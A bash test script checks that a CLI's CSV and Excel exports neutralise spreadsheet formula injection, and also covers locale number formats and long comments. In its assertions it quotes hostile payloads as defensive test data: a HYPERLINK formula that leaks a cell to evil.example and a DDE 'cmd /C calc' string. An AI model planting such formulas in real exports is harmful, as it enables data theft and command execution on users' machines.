#!/usr/bin/env bash
# Every CSV the CLI writes goes through the one CSV writer: names, ids and
# comments from feeds that a spreadsheet would run as formulas (=, +, -, @)
# come out inert, the program's own negative numbers stay numbers, and
# --excel adds a BOM, ';' and (Russian UI) a decimal comma.
source "$(dirname "$0")/lib_cli.sh"
HFX="$CXM_SRC/tests/fixtures/hostile"
DB="$T/h.db"
run "$T/out" "$T/err" "$CXM_BIN" import --db "$DB" "$HFX/formulas.jsonl"
expect_rc 0 "hostile names imported"

# csvcheck DESC FILE DELIM PYTHON: rows parsed with Python's csv module
# (BOM stripped by utf-8-sig); every cell is checked for a formula start.
csvcheck() {
    local d=$1 f=$2 delim=$3 code=$4
    if python3 - "$f" "$delim" <<PY; then ok "$d"; else bad "$d"; sed 's/^/    | /' "$f" | head -8; fi
import csv, sys
raw = open(sys.argv[1], "rb").read()
rows = list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=sys.argv[2]))
h = rows[0]
body = [dict(zip(h, r)) for r in rows[1:]]
def number(s):
    return float(s.replace(",", ".")) if s else None
for r in rows:
    for c in r:
        assert not c.lstrip(" ")[:1] in ("=", "+", "@", "\t", "\r") or False, ("formula", c)
        if c[:1] == "-":
            float(c.replace(",", "."))  # only numbers may start with '-'
$code
PY
}

# --- kpi ---
"$CXM_BIN" kpi --db "$DB" --format csv >"$T/kpi.csv" 2>"$T/err"; rc=$?
expect_rc 0 "kpi --format csv"
csvcheck "kpi csv: names and ids inert, numbers numbers" "$T/kpi.csv" "," '
assert raw[:3] != b"\xef\xbb\xbf", "no BOM without --excel"
r = body[0]
assert r["key"] == "'"'"'-2+3", r["key"]
assert r["name"].startswith("'"'"'=HYPERLINK("), r["name"]
assert r["name"][1:] == "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
assert r["emonps"] == "-87.5", r["emonps"]'

"$CXM_BIN" kpi --db "$DB" --by location --format csv >"$T/loc.csv"
csvcheck "kpi --by location csv" "$T/loc.csv" "," '
assert body[0]["key"] == "'"'"'=cmd|'"'"' /C calc'"'"'!A0", body[0]["key"]'

# --- --excel: BOM, ";", decimal comma under a Russian UI ---
"$CXM_BIN" kpi --db "$DB" --excel --lang ru >"$T/kx.csv" 2>"$T/err"; rc=$?
expect_rc 0 "kpi --excel (implies csv)"
csvcheck "kpi --excel --lang ru: BOM, ';', decimal comma" "$T/kx.csv" ";" '
assert raw[:3] == b"\xef\xbb\xbf", raw[:3]
assert h[0] == "key" and len(h) > 10, h
r = body[0]
assert r["name"].startswith("'"'"'="), r["name"]
assert r["emonps"] == "-87,5", r["emonps"]'
LC_ALL=ru_RU.UTF-8 LANG=ru_RU.UTF-8 "$CXM_BIN" kpi --db "$DB" --format csv --excel >"$T/kx2.csv" 2>"$T/err"
csvcheck "kpi --excel: Russian from the environment" "$T/kx2.csv" ";" '
assert body[0]["emonps"] == "-87,5", body[0]["emonps"]'
"$CXM_BIN" kpi --db "$DB" --excel --lang en >"$T/kx3.csv"
csvcheck "kpi --excel --lang en: decimal point" "$T/kx3.csv" ";" '
assert body[0]["emonps"] == "-87.5", body[0]["emonps"]'
run "$T/o" "$T/e" "$CXM_BIN" kpi --db "$DB" --excel --format json
expect_rc 2 "kpi --excel --format json is a usage error"
expect_grep "$T/e" "excel" "the error names --excel"

# --- alerts: the comment an operator typed, and names from the feed ---
run "$T/a.json" "$T/e" "$CXM_BIN" alerts --db "$DB" --state all --format json
ID=$(python3 -c "import json,sys; print(json.load(open(sys.argv[1]))['alerts'][0]['id'])" "$T/a.json")
run "$T/o" "$T/e" "$CXM_BIN" alerts close "$ID" --db "$DB" --comment '=HYPERLINK("http://x","y")'
expect_rc 0 "alert closed with a formula as the comment"
"$CXM_BIN" alerts --db "$DB" --state all --format csv >"$T/al.csv"
csvcheck "alerts csv: comment, scope key and summary inert" "$T/al.csv" "," '
r = body[0]
assert r["comment"] == "'"'"'=HYPERLINK(\"http://x\",\"y\")", r["comment"]
assert r["scope_key"].startswith("'"'"'="), r["scope_key"]
assert int(r["id"]) > 0'
"$CXM_BIN" alerts --db "$DB" --state all --excel >"$T/alx.csv" 2>"$T/e"; rc=$?
expect_rc 0 "alerts --excel"
csvcheck "alerts --excel: BOM and ';'" "$T/alx.csv" ";" '
assert raw[:3] == b"\xef\xbb\xbf"
assert body[0]["comment"].startswith("'"'"'=")'
"$CXM_BIN" alerts events "$ID" --db "$DB" --format csv >"$T/ev.csv"
csvcheck "alerts events csv: employee name inert" "$T/ev.csv" "," '
assert body[0]["employee_name"].startswith("'"'"'="), body[0]
assert body[0]["employee"] == "'"'"'-2+3", body[0]
assert body[0]["desk"] == "'"'"'+desk", body[0]'
"$CXM_BIN" alerts events "$ID" --db "$DB" --excel >"$T/evx.csv"
csvcheck "alerts events --excel" "$T/evx.csv" ";" 'assert raw[:3] == b"\xef\xbb\xbf"'
run "$T/o" "$T/e" "$CXM_BIN" alerts ack "$ID" --db "$DB" --excel
expect_rc 2 "alerts ack --excel is a usage error"

# --- a long comment is shown whole in every format (issue 11: cut at 511 bytes) ---
run "$T/a2.json" "$T/e" "$CXM_BIN" import --db "$T/c2.db" "$HFX/formulas.jsonl"
ID2=$(python3 -c "import json,subprocess,sys; print(json.loads(subprocess.check_output([sys.argv[1],'alerts','--db',sys.argv[2],'--format','json']))['alerts'][0]['id'])" "$CXM_BIN" "$T/c2.db")
LONG=$(python3 -c "print('Проверили запись: ' + ' '.join('слово%d' % i for i in range(150)) + ' КОНЕЦ')")
run "$T/o" "$T/e" "$CXM_BIN" alerts close "$ID2" --db "$T/c2.db" --comment "$LONG"
expect_rc 0 "close with a ${#LONG}-character comment"
"$CXM_BIN" alerts --db "$T/c2.db" --state all --format json >"$T/long.json"
check "JSON: the long comment whole" python3 -c "import json,sys; a=json.load(open(sys.argv[1]))['alerts'][0]; sys.exit(a['comment'] != sys.argv[2])" "$T/long.json" "$LONG"
"$CXM_BIN" alerts --db "$T/c2.db" --state all --format csv >"$T/long.csv"
check "CSV: the long comment whole" python3 -c "import csv,sys; r=list(csv.DictReader(open(sys.argv[1],encoding='utf-8',newline='')))[0]; sys.exit(r['comment'] != sys.argv[2])" "$T/long.csv" "$LONG"
"$CXM_BIN" alerts --db "$T/c2.db" --state all >"$T/long.txt"
check "table: the long comment whole" grep -q "слово149 КОНЕЦ" "$T/long.txt"
TOO=$(python3 -c "print('x' * 5000)")
"$CXM_BIN" import --db "$T/c3.db" "$HFX/formulas.jsonl" >/dev/null 2>&1
run "$T/o" "$T/e" "$CXM_BIN" alerts close 1 --db "$T/c3.db" --comment "$TOO"
expect_rc 1 "a comment over 4095 bytes is refused, not cut"
expect_grep "$T/e" "comment longer than 4095 bytes" "the refusal says why"
check "the alert stays open" bash -c "'$CXM_BIN' alerts --db '$T/c3.db' --format csv | grep -q ',open,'"

finish
